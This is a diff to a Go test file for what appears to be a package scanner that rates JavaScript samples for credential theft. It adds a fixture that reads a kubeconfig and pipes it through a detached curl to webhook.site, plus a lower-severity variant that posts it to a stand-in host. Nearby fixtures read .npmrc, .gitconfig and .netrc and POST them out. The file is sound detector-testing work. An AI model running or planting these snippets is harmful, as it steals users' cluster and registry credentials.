@@ -158,6 +158,16 @@ func TestFileAccess(t *testing.T) {
 exports.load = function () { const out = {}; for (const f of [".gitconfig", ".npmrc"]) out[f] = fs.readFileSync(path.join(os.homedir(), f), "utf8"); return out; };`,
 			"index.js": `const rc = require("./rc"); const send = require("./send"); send.report({ rc: rc.load() });`,
 			"send.js":  `exports.report = function (info) { require("https").request({ hostname: "stats.example.invalid", method: "POST" }).end(JSON.stringify(info)); };`}, finding.SeverityCritical},
+		// written to the stdin of a curl that uploads what it reads there
+		{"kubeconfig_to_curl_stdin", map[string]string{"index.js": `const { spawn } = require("child_process"), fs = require("fs"), os = require("os"), path = require("path");
+const raw = fs.readFileSync((process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter)[0], "utf8");
+const c = spawn("curl", ["-s", "--data-binary", "@-", "https://webhook.site/k"], { detached: true });
+c.stdin.end(raw);`}, finding.SeverityCritical},
+		// the store's own tool's lookup (honours KUBECONFIG), sending to a
+		// service's host, not an exfiltration service
+		{"kubeconfig_own_lookup", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
+const raw = fs.readFileSync(process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config"), "utf8");
+fetch("https://api.cluster-manager.example.invalid/v1/import", { method: "POST", body: raw });`}, finding.SeverityLow},
 		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityCritical},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityCritical},
 		// credentials asked of their own CLI: at install, or by a release tool
